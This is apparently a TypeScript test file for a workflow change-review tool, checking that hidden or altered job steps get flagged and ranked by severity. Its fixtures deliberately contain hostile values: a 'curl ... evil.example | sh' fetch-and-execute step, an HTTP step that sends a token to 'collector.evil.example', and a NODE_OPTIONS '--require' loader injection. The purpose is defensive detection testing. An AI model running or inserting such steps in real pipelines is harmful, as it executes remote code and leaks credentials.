/**
 * Attack 7: a workflow (`spec.job.steps`) hides what runs in a step the reviewer does not look
 * at: the third of four, a step added at the end, a reordering. Every step's whole job is shown,
 * its signs are judged like a job's, and any change to the steps is at least MEDIUM.
 */
import { describe, expect, it } from 'vitest';
import { planScenario, schedule } from './plan-scenario.js';

const step = (name: string, command: string[], extra: Record<string, unknown> = {}) => ({ name, type: 'command', command, ...extra });
const steps = (...list: Array<Record<string, unknown>>) => ({ job: { steps: list } });
const innocent = [step('extract', ['node', 'jobs/extract.js']), step('transform', ['node', 'jobs/transform.js']), step('load', ['node', 'jobs/load.js']), step('notify', ['node', 'jobs/notify.js'])];

describe('attack 7: a workflow step cannot hide what runs', () => {
  it('a created workflow shows every step in full; fetch-and-execute in step 3 is HIGH, located at the step', async () => {
    const head = {
      etl: schedule('etl', steps(innocent[0]!, innocent[1]!, step('load', ['sh', '-c', 'curl -s https://evil.example/x | sh'], { env: { MODE: 'full' } }), innocent[3]!), { description: 'x'.repeat(20_000) }),
    };
    const [markdown, text, gate] = await planScenario({}, head, [['--format', 'markdown'], ['--format', 'text'], ['--fail-on', 'high']]);
    expect(markdown!.stdout).toContain('- steps: `"extract"` `"transform"` `"load"` `"notify"`');
    expect(markdown!.stdout).toContain('- steps.load.command: `"sh"` `"-c"` `"curl -s https://evil.example/x | sh"`');
    expect(markdown!.stdout).toContain('- steps.load.env: `MODE="full"`');
    expect(markdown!.stdout).toContain('- steps.notify.command: `"node"` `"jobs/notify.js"`');
    expect(markdown!.stdout).toMatch(/\| \*\*HIGH\*\* \| CF510 \| etl \|/);
    expect(text!.stdout).toContain('steps.load.command: "sh", "-c", "curl -s https://evil.example/x | sh"');
    expect(text!.stdout).toMatch(/\[HIGH\] CF510 step "load": sh fetches or decodes code and executes it: .*schedules\/etl\.yaml:\d+:\d+/);
    expect(gate!.exitCode).toBe(3);
  });

  it('a change to one step of four is MEDIUM and shown in the diff', async () => {
    const base = { etl: schedule('etl', steps(...innocent)) };
    const changed = [...innocent];
    changed[2] = step('load', ['node', 'jobs/load.js', '--truncate-first']);
    const [text, high, medium] = await planScenario(base, { etl: schedule('etl', steps(...changed)) }, [['--format', 'text'], ['--fail-on', 'high'], ['--fail-on', 'medium']]);
    expect(text!.stdout).toContain('[MEDIUM] CF506 job changed: job.steps');
    expect(text!.stdout).toMatch(/\+\s+"--truncate-first"/);
    expect(high!.exitCode).toBe(0);
    expect(medium!.exitCode).toBe(3);
  });

  it('a step added at the end calling a new host is HIGH; a reordering is shown and MEDIUM', async () => {
    const base = { etl: schedule('etl', steps(...innocent)) };
    const added = steps(...innocent, { name: 'report', type: 'http', url: 'https://collector.evil.example/in', headers: { Authorization: { fromEnv: 'REPORT_TOKEN' } } });
    const [text, gate] = await planScenario(base, { etl: schedule('etl', added) }, [['--format', 'text'], ['--fail-on', 'high']]);
    expect(text!.stdout).toContain('[HIGH] CF511 step "report" now calls host "collector.evil.example"');
    expect(text!.stdout).toContain('"url": "https://collector.evil.example/in"');
    expect(gate!.exitCode).toBe(3);

    const reordered = steps(innocent[0]!, innocent[2]!, innocent[1]!, innocent[3]!);
    const [reorderText, reorderGate] = await planScenario(base, { etl: schedule('etl', reordered) }, [['--format', 'text'], ['--fail-on', 'medium']]);
    expect(reorderText!.stdout).toContain('job.steps:');
    expect(reorderText!.stdout).toContain('[MEDIUM] CF504 job target changed: extract: node jobs/extract.js; transform: node jobs/transform.js; load');
    expect(reorderGate!.exitCode).toBe(3);
  });

  it('turning a job into steps shows every step and judges them', async () => {
    const base = { etl: schedule('etl', { job: { type: 'command', command: ['node', 'jobs/etl.js'] } }) };
    const head = { etl: schedule('etl', steps(innocent[0]!, step('load', ['node', 'jobs/load.js'], { env: { NODE_OPTIONS: '--require /tmp/x.js' } }))) };
    const [text, gate] = await planScenario(base, head, [['--format', 'text'], ['--fail-on', 'high']]);
    expect(text!.stdout).toContain('[HIGH] CF507 step "load": job.steps[1].env.NODE_OPTIONS sets loader variable NODE_OPTIONS');
    expect(text!.stdout).toContain('"NODE_OPTIONS": "--require /tmp/x.js"');
    expect(gate!.exitCode).toBe(3);
  });
});
